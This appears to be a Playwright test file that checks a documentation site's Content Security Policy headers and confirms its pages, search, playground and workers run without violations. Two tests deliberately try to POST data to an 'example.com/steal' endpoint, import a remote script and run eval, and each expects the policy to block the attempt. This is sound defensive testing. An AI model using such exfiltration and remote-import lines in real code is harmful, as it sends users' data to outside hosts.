/**
 * The site runs under its Content Security Policy, sent as HTTP headers (the `_headers` file the build
 * writes, which the preview server sends too): every kind of page loads and works with zero
 * violations, and the policy blocks what reader code must not do.
 */
import type { Page } from '@playwright/test';
import { PlaygroundPage } from './playground-fixtures.ts';
import { ALSO_UNDER_BASE_PATH, expect, test } from './csp-fixtures.ts';

/** Headers every response of the site carries, and what each must say. */
const REQUIRED_HEADERS: Record<string, RegExp> = {
  'content-security-policy': /^default-src 'self'; script-src 'self' blob: 'wasm-unsafe-eval'( 'sha256-[A-Za-z0-9+/=]+')*; .*object-src 'none'.*frame-ancestors 'none'/,
  'x-content-type-options': /^nosniff$/,
  'x-frame-options': /^DENY$/,
  'referrer-policy': /^same-origin$/,
};

async function openWithHeaders(page: Page, path: string): Promise<void> {
  const response = await page.goto(path);
  expect(response?.status()).toBe(200);
  const headers = response?.headers() ?? {};
  for (const [name, value] of Object.entries(REQUIRED_HEADERS)) expect(headers[name], name).toMatch(value);
}

test.describe('under the site’s CSP', ALSO_UNDER_BASE_PATH, () => {
  test('the home page and a docs page load with no violation', async ({ page }) => {
    await openWithHeaders(page, './');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await openWithHeaders(page, './start/custom-store/');
    await expect(page.getByRole('heading', { level: 1, name: 'Write your own store' })).toBeVisible();
    await page.waitForLoadState('networkidle');
  });

  test('the search finds pages (Pagefind and its WebAssembly run)', async ({ page }) => {
    await openWithHeaders(page, './');
    await page.getByRole('button', { name: 'Search' }).click();
    const dialog = page.getByRole('dialog', { name: 'Search' });
    await dialog.getByRole('textbox', { name: 'Search' }).fill('conformance');
    await expect(dialog.getByRole('link', { name: /Write your own store/ }).first()).toBeVisible();
  });

  test('the Lab serves its demo app (MSW’s service worker, the server worker)', async ({ page }) => {
    // A dedicated worker's CSP is its own script's: the server worker's script carries the policy too.
    const workerScript = page.waitForResponse((response) => /server-worker[^/]*\.js$/.test(new URL(response.url()).pathname));
    await openWithHeaders(page, './lab/?store=memory');
    expect((await workerScript).headers()['content-security-policy']).toMatch(REQUIRED_HEADERS['content-security-policy']!);
    const lab = page.locator('session-lab');
    await expect(lab.getByText(/^Server running on the .+ store\.$/)).toBeVisible({ timeout: 20_000 });
    await lab.getByLabel('Your name').fill('ada');
    await lab.getByRole('button', { name: 'Sign in' }).click();
    await expect(lab.getByText('Signed in as ada', { exact: true })).toBeVisible();
  });

  test('the playground compiles and runs a store (Monaco and its workers, blob modules in the server worker)', async ({ page, baseURL }) => {
    test.setTimeout(180_000);
    await openWithHeaders(page, './playground/');
    const playground = new PlaygroundPage(page, new URL(baseURL ?? '/').pathname);
    await playground.waitServing();
    await playground.signIn('ada');
    await expect(playground.lab.getByText('Signed in as ada', { exact: true })).toBeVisible();
  });

  test('an exercise runs its checks (the checks worker)', async ({ page }) => {
    test.setTimeout(180_000);
    await openWithHeaders(page, './exercises/01-create-and-get/');
    const exercise = page.locator('session-exercise');
    await expect(exercise).toHaveAttribute('data-ready', '', { timeout: 60_000 });
    await exercise.getByRole('button', { name: /^Check\b/ }).click();
    await expect(exercise).toHaveAttribute('data-checks-done', '1', { timeout: 90_000 });
  });
});

test.describe('the CSP', ALSO_UNDER_BASE_PATH, () => {
  test('blocks a page from sending data to another host or loading its scripts', async ({ page, cspViolations }) => {
    await openWithHeaders(page, './');
    const outcomes = await page.evaluate(async () => {
      const remote = 'https://example.com/remote.js';
      return [
        await fetch('https://example.com/steal', { method: 'POST', body: 'drafts' }).then(() => 'fetch sent', () => 'fetch blocked'),
        await import(/* @vite-ignore */ remote).then(() => 'import ran', () => 'import blocked'),
      ];
    });
    expect(outcomes).toEqual(['fetch blocked', 'import blocked']);
    // The fixture saw both; they were provoked on purpose, so they do not fail this test.
    await expect.poll(() => cspViolations.length).toBeGreaterThanOrEqual(2);
    cspViolations.length = 0;
  });

  test('reaches workers, where reader code runs: no eval, no remote import, no sending data away', async ({ page, cspViolations }) => {
    await openWithHeaders(page, './');
    // The worker waits for a word before it misbehaves: the fixture first gives it its violation listener.
    const appeared = page.waitForEvent('worker');
    const ran = page.evaluate(async () => {
      const source = `
        await new Promise((resolve) => addEventListener('message', resolve, { once: true }));
        const outcomes = [];
        try { (0, eval)('1'); outcomes.push('eval ran'); } catch { outcomes.push('eval blocked'); }
        outcomes.push(await import('https://example.com/remote.js').then(() => 'import ran', () => 'import blocked'));
        outcomes.push(await fetch('https://example.com/steal', { method: 'POST', body: 'x' }).then(() => 'fetch sent', () => 'fetch blocked'));
        postMessage(outcomes);`;
      const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })), { type: 'module' });
      (globalThis as unknown as { probe: Worker }).probe = worker;
      return new Promise<string[]>((resolve) => worker.addEventListener('message', (event) => resolve(event.data as string[])));
    });
    await (await appeared).evaluate(() => 'listening');
    await page.evaluate(() => (globalThis as unknown as { probe: Worker }).probe.postMessage('go'));
    const outcomes = await ran;
    expect(outcomes).toEqual(['eval blocked', 'import blocked', 'fetch blocked']);
    await expect.poll(() => cspViolations.length).toBeGreaterThanOrEqual(1);
    cspViolations.length = 0;
  });
});
